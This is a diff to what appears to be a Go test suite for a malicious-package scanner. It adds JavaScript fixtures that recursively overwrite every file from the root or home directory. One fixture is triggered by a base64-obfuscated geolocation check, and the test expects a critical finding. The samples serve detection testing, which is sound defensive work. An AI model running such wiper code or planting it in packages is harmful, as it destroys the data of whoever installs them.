@@ -74,6 +74,11 @@ exports.refresh = (cb) => { fs.rmSync(path.join(os.tmpdir(), "geo-lite"), { recu
 		{"overwrite_walk_split_ungated", map[string]string{"package.json": rt.Pkg(`"main":"sync.js"`),
 			"wipe.js": `const fs = require("fs"), os = require("os"), path = require("path"); function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } } module.exports = () => walk(path.join(os.homedir(), "Desktop"))`,
 			"sync.js": `const wipe = require("./wipe"); require("https").get("https://api.example.invalid/manifest", (r) => r.on("end", () => wipe()))`}, finding.SeverityNone},
+		// the same, the service unknown, its answer's country_name read
+		// under a decoded key
+		{"overwrite_walk_country_name", map[string]string{"index.js": `const fs = require("fs"), path = require("path"), https = require("https");
+function walk(d) { for (const e of fs.readdirSync(d)) { const p = path.join(d, e); if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
+https.get(atob("aHR0cHM6Ly9nZW8uZXhhbXBsZS5pbnZhbGlkL2pzb24="), (r) => r.on("data", (b) => { const k = atob("Y291bnRyeV9uYW1l"); if (JSON.parse(b)[k] === "X") walk("/") }))`}, finding.SeverityCritical},
 		// files overwritten one by one from the home directory down, behind a geo check
 		{"overwrite_walk_geo", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
 function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
